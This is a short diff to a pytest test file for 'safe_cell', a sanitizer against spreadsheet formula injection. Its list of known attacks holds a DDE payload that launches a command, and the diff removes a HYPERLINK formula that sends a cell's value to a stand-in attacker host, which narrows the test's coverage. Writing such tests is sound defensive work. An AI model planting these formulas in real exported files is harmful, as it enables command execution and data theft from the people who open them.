@@ -35,7 +35,7 @@ def test_nothing_runs_and_nothing_is_lost(text: str) -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"],
+    ["=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"],
 )
 def test_known_attacks(text: str) -> None:
     assert safe_cell(text).startswith("'")
